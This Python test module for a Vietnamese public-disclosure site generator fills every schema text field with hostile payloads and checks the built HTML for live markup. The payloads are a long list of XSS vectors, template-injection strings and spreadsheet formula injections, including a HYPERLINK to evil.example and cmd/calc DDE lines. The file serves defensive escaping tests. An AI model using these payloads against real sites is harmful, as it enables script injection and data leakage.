"""Hostile content for the escaping tests: payloads, and content trees with a payload in every text field.

The trees are drawn from the schema (generator/content/schema.py, generator/config.py): every string field a model
declares gets a payload, so a field added later is covered without anyone listing it. Fields that refer to
something else (a parent unit, a plan, a catalogue code, a file) or that a pattern constrains hold a valid value
here; a payload in them is refused by validation (test_hostile checks that too).
"""

from __future__ import annotations

import datetime as dt
import hashlib
import json
import re
import types
import typing
from collections.abc import Callable
from decimal import Decimal
from enum import Enum
from html.parser import HTMLParser
from pathlib import Path
from typing import Annotated

import yaml
from pydantic import BaseModel

from generator.content import schema
from generator.content.schema import SiteConfig

# Each payload runs `ckx('<tag>')` (or alert) if it is ever interpreted as markup or script; `{tag}` makes
# every field's payload its own, so a failure names the field.
_VECTORS = [
    "<script>ckx('{tag}')</script>",
    "<img src=x onerror=ckx('{tag}')>",
    "<img src=x onerror=\"ckx('{tag}')\">",
    "<svg onload=ckx('{tag}')>",
    "<svg><script>ckx('{tag}')</script></svg>",
    "<body onload=ckx('{tag}')>",
    "<iframe srcdoc=\"<script>parent.ckx('{tag}')</script>\"></iframe>",
    "<details open ontoggle=ckx('{tag}')>x</details>",
    "<input autofocus onfocus=ckx('{tag}')>",
    "<video><source onerror=ckx('{tag}')></video>",
    "<audio src=x onerror=ckx('{tag}')>",
    "<a href=\"javascript:ckx('{tag}')\">x</a>",
    "<a href=javascript:ckx('{tag}')>x</a>",
    "<math><mtext><img src=x onerror=ckx('{tag}')></mtext></math>",
    "<object data=\"javascript:ckx('{tag}')\"></object>",
    "<embed src=\"javascript:ckx('{tag}')\">",
    "<form action=\"javascript:ckx('{tag}')\"><button>x</button></form>",
    "<style onload=ckx('{tag}')></style>",
    "<marquee onstart=ckx('{tag}')>x</marquee>",
    "<select autofocus onfocus=ckx('{tag}')></select>",
    "<textarea autofocus onfocus=ckx('{tag}')></textarea>",
    "<keygen autofocus onfocus=ckx('{tag}')>",
    "<div style=\"width:expression(ckx('{tag}'))\" onmouseover=ckx('{tag}')>x</div>",
    '<img src="x" onerror="&#99;kx(\'{tag}\')">',
    "<img src=x onerror=&#x63;kx('{tag}')>",
    "<IMG SRC=x OnErRoR=ckx('{tag}')>",
    "<img/src=x/onerror=ckx('{tag}')>",
    "<img src=x onerror\t=ckx('{tag}')>",
    "<scr<script>ipt>ckx('{tag}')</scr</script>ipt>",
    "<<script>ckx('{tag}');//<</script>",
    "<base href=\"javascript:ckx('{tag}')//\">",
    '<meta http-equiv="refresh" content="0;url=javascript:ckx(\'{tag}\')">',
    "<link rel=import href=\"data:text/html,<script>ckx('{tag}')</script>\">",
    "<template><img src=x onerror=ckx('{tag}')></template><img src=x onerror=ckx('{tag}')>",
    "<noscript><p title=\"</noscript><img src=x onerror=ckx('{tag}')>\">",
    "<!--<img src=\"--><img src=x onerror=ckx('{tag}')//\">",
    "<![CDATA[<script>ckx('{tag}')</script>]]>",
    "[x](javascript:ckx('{tag}'))",
    "[x](JaVaScRiPt:ckx('{tag}'))",
    "![x](x\" onerror=\"ckx('{tag}'))",
    "<javascript:ckx('{tag}')>",
    "{{: autofocus=1 onfocus=ckx('{tag}') }}",
    "x {{: onmouseover=ckx('{tag}') }}",
    "# x {{: onclick=ckx('{tag}') }}",
    "*x* <span onclick=ckx('{tag}')>y</span>",
    "`<img src=x onerror=ckx('{tag}')>`",
    "```\n<img src=x onerror=ckx('{tag}')>\n```",
    "    <img src=x onerror=ckx('{tag}')>",
    "> <img src=x onerror=ckx('{tag}')>",
    "| a |\n|---|\n| <img src=x onerror=ckx('{tag}')> |",
    "[x]: javascript:ckx('{tag}')\n[y][x]",
    "<https://example.org/\" onmouseover=\"ckx('{tag}')>",
    "javascript:ckx('{tag}')",
    "data:text/html,<script>ckx('{tag}')</script>",
    "${{ckx('{tag}')}}",
    "{{{{ ckx('{tag}') }}}}",
    "{{% raw %}}<img src=x onerror=ckx('{tag}')>{{% endraw %}}",
    "&lt;img src=x onerror=ckx('{tag}')&gt;",
    "&#60;img src=x onerror=ckx('{tag}')&#62;",
    "\\u003cimg src=x onerror=ckx('{tag}')\\u003e",
    "%3Cimg%20src%3Dx%20onerror%3Dckx('{tag}')%3E",
    '=HYPERLINK("https://evil.example/?{tag}","x")',
    "+cmd|' /C calc'!A0 {tag}",
    "-2+3+cmd|' /C calc'!A0 {tag}",
    "@SUM(1+1)*cmd|' /C calc'!A0 {tag}",
    "=cmd|' /C calc'!A0 {tag}",
    "\u2028<img src=x onerror=ckx('{tag}')>\u2029",
    "</script><script>ckx('{tag}')</script>",
    "</title><script>ckx('{tag}')</script>",
    "</textarea><script>ckx('{tag}')</script>",
    "</style><script>ckx('{tag}')</script>",
    "</noscript><script>ckx('{tag}')</script>",
    "--><script>ckx('{tag}')</script>",
    "]]><script>ckx('{tag}')</script>",
    "</svg><script>ckx('{tag}')</script>",
    "</desc><script>ckx('{tag}')</script>",
    "</text><script>ckx('{tag}')</script>",
    "</summary><script>ckx('{tag}')</script>",
    "</content><script>ckx('{tag}')</script>",
    "\"><script>ckx('{tag}')</script>",
    "'><script>ckx('{tag}')</script>",
    '" onmouseover="ckx(\'{tag}\')" x="',
    "' onmouseover='ckx(\"{tag}\")' x='",
    '" autofocus onfocus="ckx(\'{tag}\')" x="',
    "\"><img src=x onerror=ckx('{tag}')>",
    "'><img src=x onerror=ckx('{tag}')>",
    "\"/><svg onload=ckx('{tag}')>",
    "`><img src=x onerror=ckx('{tag}')>",
    "\" data-pagefind-meta=\"title:<img src=x onerror=ckx('{tag}')>",
    "\"}}]}}</script><script>ckx('{tag}')</script>",
    "\\\"}}; ckx('{tag}'); //",
    "'; ckx('{tag}'); //",
    "\"; ckx('{tag}'); //",
    "</a><a href=\"javascript:ckx('{tag}')\">x",
    '"><a href="javascript:ckx(\'{tag}\')">x</a>',
    "x\" href=\"javascript:ckx('{tag}')",
    "<a href=\"&#106;avascript:ckx('{tag}')\">x</a>",
    "<a href=\" javascript:ckx('{tag}')\">x</a>",
    "<a href=\"java\tscript:ckx('{tag}')\">x</a>",
    "<svg><a xlink:href=\"javascript:ckx('{tag}')\"><text>x</text></a></svg>",
    "<svg><animate onbegin=ckx('{tag}') attributeName=x dur=1s>",
    "<svg><set onbegin=ckx('{tag}') attributeName=x to=1>",
    "<iframe src=\"javascript:ckx('{tag}')\"></iframe>",
    "Phòng NN&PTNT «{tag}» \"trích\" 'dẫn' <b>đậm</b> & tiếp",
]
PAYLOADS = [v for v in _VECTORS]
MARKER = "ckx"


def payload(n: int, tag: str) -> str:
    return PAYLOADS[n % len(PAYLOADS)].format(tag=tag)


def every_payload(tag: str) -> str:
    """All payloads in one text, for the fields a site has once (its configuration, a province): a heading's and a
    paragraph's attribute lists where Markdown would read them, first line and last."""
    return (
        f"Tên {{: autofocus=1 onfocus=ckx('{tag}') }}\n"
        + " ".join(payload(n, tag) for n in range(len(PAYLOADS)))
        + f"\n{{: onmouseover=ckx('{tag}') }}"
    )


# ----------------------------------------------------------------------------- documents from the schema

PROVINCE, DISTRICT, PLAN = "tinh-doc", "huyen-doc", "2023-doc-hai"
INDICATOR, AGENCY, COLUMN, TABLE = "chi-so-doc-hai", "co-quan-doc-hai", "kinh_phi", "bang-doc-hai"

# Fields whose value must name something that exists, or has a grammar: a valid value here.
REFERENCES = {
    ("Unit", "parent"),
    ("Unit", "level"),
    ("Plan", "reviews"),
    ("Plan", "number"),
    ("ReportedResult", "source_plan"),
    # a result's unit and parts met must be the target's own (a payload in the target is enough)
    ("TargetResult", "unit"),
    ("TargetResult", "parts_met"),
    ("ResultSource", "plan"),
    ("Target", "indicator_code"),
    ("SourceDocument", "file"),
    ("OriginalFile", "file"),
    ("LegalBasis", "number"),
    # must match a finding of the personal-data check exactly; printed by the build, never published
    ("PrivacyException", "text"),
    ("PrivacyException", "reason"),
    ("PrivacyException", "reviewed_by"),
}


# Agency names: one tag per document for all of them, or each field would make an agency page of its own.
AGENCY_FIELDS = re.compile(r"\.(lead|coordinating\[\d+\]|implementing\[\d+\]|responsibilities\[\d+\]\.unit)$")


class Fields:
    """Hands out a payload per text field and remembers which field each tag stands for."""

    def __init__(self, payload_for: Callable[[int, str], str], start: int = 0):
        self.payload_for, self.n, self.where = payload_for, start, {}
        self.owner: tuple[str, str] | None = None  # the model and field being filled (document)
        self.filled: set[tuple[str, str]] = set()  # every (model, field) that got a payload

    def text(self, where: str) -> str:
        if self.owner:
            self.filled.add(self.owner)
        if AGENCY_FIELDS.search(where):
            tag = f"A{where.split('.')[0].split('/')[0]}x"
            self.where[tag] = "agency name in " + where.split(".")[0]
            return self.payload_for(0, tag)
        tag = f"F{self.n}x"
        self.where[tag] = where
        value = self.payload_for(self.n, tag)
        self.n += 1
        return value


def document(model: type[BaseModel], fields: Fields, where: str, valid: dict[tuple[str, str], object]) -> dict:
    out = {}
    for name, info in model.model_fields.items():
        key = (model.__name__, name)
        if key in valid:
            value = valid[key]
        else:
            fields.owner = key
            value = _value(info.annotation, list(info.metadata), fields, f"{where}.{name}", valid)
        if value is not None:
            out[name] = value
    return out


def _value(annotation, metadata: list, fields: Fields, where: str, valid: dict):
    origin = typing.get_origin(annotation)
    if origin is Annotated:
        inner, *more = typing.get_args(annotation)
        return _value(inner, more + metadata, fields, where, valid)
    if origin in (typing.Union, types.UnionType):
        inner = next(a for a in typing.get_args(annotation) if a is not type(None))
        return _value(inner, metadata, fields, where, valid)
    if origin is list:
        (item,) = typing.get_args(annotation)
        return [_value(item, [], fields, f"{where}[{i}]", valid) for i in range(2)]
    if origin is dict:
        _, item = typing.get_args(annotation)
        return {COLUMN: _value(item, [], fields, f"{where}.{COLUMN}", valid)}
    if isinstance(annotation, type) and issubclass(annotation, BaseModel):
        owner = fields.owner
        value = document(annotation, fields, where, valid)
        fields.owner = owner
        return value
    if isinstance(annotation, type) and issubclass(annotation, Enum):
        members = list(annotation)  # distinct members for the items of a list
        index = int((re.findall(r"\[(\d+)\]", where) or ["0"])[-1])
        return members[index % len(members)].value
    if annotation is bool:
        return False
    if annotation is dt.date:
        return "15/02/2023"
    if annotation is int:
        return 2023
    if annotation is Decimal:
        return 100
    if annotation is str:
        if any(getattr(m, "pattern", None) for m in metadata) or _validator(metadata, "_partial_date"):
            return _patterned(where)
        return fields.text(where)
    raise AssertionError(f"hostile.document: no value for {annotation!r} at {where}")


def _validator(metadata: list, name: str) -> bool:
    return any(getattr(getattr(m, "func", None), "__name__", "") == name for m in metadata)


def _patterned(where: str) -> str:
    if where.endswith("signed_date") or where.endswith(".date"):
        return "15/02/2023"
    if where.endswith(".sha256"):
        raise AssertionError("sha256 is set with the source file")
    # Unique within their list: the indices on the way there.
    last = re.findall(r"\[(\d+)\]", where)[-1:] or ["0"]
    name = where.rsplit(".", 1)[-1]
    if name == "key":
        return COLUMN if last == ["0"] else f"{COLUMN}_{last[0]}"
    return f"{ {'id': TABLE, 'source': TABLE, 'code': INDICATOR}.get(name, 'gia-tri') }-{last[0]}"


def write_tree(
    root: Path,
    fields: Fields,
    *,
    districts: int = 1,
    body: Callable[[str], str] | None = None,
    payload_for_district: Callable[[int], Fields] | None = None,
) -> None:
    """content/ and site_config.yml under `root`: a province, `districts` districts each with an agency
    registry and a plan, and the indicator catalogue, every text field holding a payload."""
    content = root / "content"
    province = content / PROVINCE
    province.mkdir(parents=True)
    unit_valid = {("Unit", "parent"): None, ("Unit", "level"): "tinh", ("Unit", "valid_to"): None}
    _dump(province / "unit.yml", document(schema.Unit, fields, "tinh/unit.yml", unit_valid))
    catalogue = document(schema.IndicatorCatalogue, fields, "indicators.yml", {})
    _dump(content / "budget_categories.yml", document(schema.BudgetCategories, fields, "budget_categories.yml", {}))
    _dump(content / "indicators.yml", catalogue)
    for d in range(districts):
        f = payload_for_district(d) if payload_for_district else fields
        folder = province / f"{DISTRICT}-{d}"
        folder.mkdir()
        _dump(
            folder / "unit.yml",
            document(
                schema.Unit,
                f,
                f"huyen-{d}/unit.yml",
                {**unit_valid, ("Unit", "parent"): PROVINCE, ("Unit", "level"): "huyen"},
            ),
        )
        registry = document(schema.AgencyRegistry, f, f"huyen-{d}/agencies.yml", {})
        _dump(folder / "agencies.yml", registry)
        source = folder / f"{PLAN}.nguon.txt"
        source.write_text(f.text(f"huyen-{d}/{PLAN}.nguon.txt") + "\n", "utf-8")
        plan_valid = {
            ("Plan", "reviews"): None,
            ("Plan", "number"): f"{d + 1}/KH-UBND",
            ("ReportedResult", "source_plan"): None,
            ("Target", "indicator_code"): f"{INDICATOR}-0",
            ("LegalBasis", "number"): f"{d + 1}/2022/NĐ-CP",
            ("SourceDocument", "file"): source.name,
            ("SourceDocument", "original"): None,
            ("SourceDocument", "sha256"): hashlib.sha256(source.read_bytes()).hexdigest(),
            ("BudgetLine", "category_code"): f"{INDICATOR}-0",
            ("BudgetGroup", "category_code"): f"{INDICATOR}-1",
            ("Plan", "classification"): "thuong",
            ("Period", "outlook"): 2025,
            ("Plan", "privacy_exceptions"): None,
        }
        plan = document(schema.Plan, f, f"huyen-{d}/{PLAN}.yml", plan_valid)
        _dump(folder / f"{PLAN}.yml", plan)
        results_valid = {
            ("ResultSource", "kind"): "bao-cao",
            ("ResultSource", "plan"): None,
            ("ResultSource", "url"): "https://example.gov.vn/bao-cao",
            ("ResultSource", "kept_copy"): None,
            ("TargetResult", "target"): 1,
            ("TargetResult", "unit"): None,
            ("TargetResult", "status"): None,
            ("TargetResult", "parts_met"): None,
        }
        _dump(folder / f"{PLAN}.ket-qua.yml", document(schema.PlanResults, f, f"huyen-{d}/ket-qua.yml", results_valid))
        (folder / f"{PLAN}.md").write_text(
            "## Mục đích\n\n" + f.text(f"huyen-{d}/{PLAN}.md") + "\n\n" + (body(f"huyen-{d}") if body else ""), "utf-8"
        )
    config = document(
        SiteConfig,
        fields,
        "site_config.yml",
        {
            ("SiteConfig", "base_url"): "https://congkhai.example.gov.vn/cong-khai/",
            ("SiteConfig", "language"): "vi",
            ("Licence", "url"): "https://creativecommons.org/licenses/by/4.0/",
            ("Contact", "email"): "a@example.gov.vn",
            ("SiteConfig", "demo"): True,  # its addresses are example.gov.vn's: a demo, or the build stops
            # the form's address carries markup and quotes: escaped wherever the feedback link lands
            ("SiteConfig", "feedback_form_url"): "https://example.org/gop-y?nguon=<b>x</b>&q=\"'",
        },
    )
    _dump(root / "site_config.yml", config)


def _dump(path: Path, data: dict) -> None:
    path.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False, width=10_000), "utf-8")


# ----------------------------------------------------------------------------- what must never be in a page


class LiveMarkup(HTMLParser):
    """Collects what a browser would run: event-handler attributes, javascript: addresses, scripts or
    frames that carry a payload's marker."""

    URL_ATTRS = {"href", "src", "action", "formaction", "xlink:href", "data", "poster", "srcdoc", "background"}
    FRAMES = {"iframe", "object", "embed", "frame", "base"}

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self._script = self._data_block = False
        self._text = ""

    def handle_starttag(self, tag, attrs):
        for name, value in attrs:
            value = value or ""
            if name.startswith("on"):
                self.found.append(f"<{tag} {name}={value[:60]!r}>")
            if name in self.URL_ATTRS and re.match(
                r"^[\x00-\x20]*(javascript|data|vbscript):", value.replace("\t", ""), re.I
            ):
                self.found.append(f"<{tag} {name}={value[:60]!r}>")
        if tag in self.FRAMES and any(MARKER in (v or "") for _, v in attrs):
            self.found.append(f"<{tag}> carrying a payload")
        if tag == "meta" and any(n == "http-equiv" for n, _ in attrs) and any(MARKER in (v or "") for _, v in attrs):
            self.found.append("<meta http-equiv> carrying a payload")
        self._script = tag == "script"
        # A JSON-LD data block is never run: its text may carry a payload as data, but must be JSON to its end
        # (a payload that closed the element early leaves broken JSON, and a script after it).
        self._data_block = self._script and dict(attrs).get("type") == "application/ld+json"
        self._text = ""

    def handle_startendtag(self, tag, attrs):
        self.handle_starttag(tag, attrs)
        self._script = False

    def handle_endtag(self, tag):
        if self._script and self._data_block:
            try:
                json.loads(self._text)
            except ValueError:
                self.found.append(f"<script type=application/ld+json> that is not JSON: {self._text[:60]!r}")
        self._script = False

    def handle_data(self, data):
        if self._script and self._data_block:
            self._text += data
        elif self._script and MARKER in data:
            self.found.append(f"<script> carrying a payload: {data[:60]!r}")


def live_markup(html: str) -> list[str]:
    parser = LiveMarkup()
    parser.feed(html)
    parser.close()
    return parser.found
